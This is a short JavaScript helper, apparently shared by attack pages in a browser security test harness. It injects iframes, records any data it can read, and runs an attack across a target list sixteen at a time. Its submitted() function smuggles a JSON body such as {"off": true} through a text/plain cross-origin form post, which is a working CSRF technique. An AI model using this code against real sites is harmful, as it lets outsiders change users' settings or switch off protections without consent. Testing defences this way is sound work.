// What every attack page has: the places to attack, and the means to report.
window.readable = [];

/** Something of ours could be read. */
function caught(where, what) {
  if (what) window.readable.push(`${where}: ${String(what).slice(0, 200)}`);
}

function pause(ms) {
  return new Promise(resolve => setTimeout(resolve, ms));
}

/** Put a frame into the page and wait until it came, or did not. */
function loaded(frame) {
  document.body.append(frame);
  return Promise.race([new Promise(resolve => { frame.onload = frame.onerror = resolve; }), pause(300)]);
}

async function submitted(url, body, enctype) {
  const frame = document.createElement('iframe');
  frame.name = `sink${Math.random()}`;
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: url, enctype, target: frame.name });
  const field = document.createElement('input');
  // As text/plain this body is whole JSON: {"off": true, "x": "=…"}.
  field.name = body.replace(/}$/, ', "x": "');
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  const came = loaded(frame);
  form.submit();
  await came;
  frame.remove();
  form.remove();
}

/** Run an attack on every place, sixteen at a time; the title tells when it is over. */
function attack(one) {
  window.onload = async () => {
    const left = [...TARGETS];
    const worker = async () => {
      while (left.length) {
        const target = left.shift();
        try { await one(target); } catch (error) { console.log(String(error)); }
      }
    };
    await Promise.all(Array.from({ length: 16 }, worker));
    document.title = 'done';
  };
}
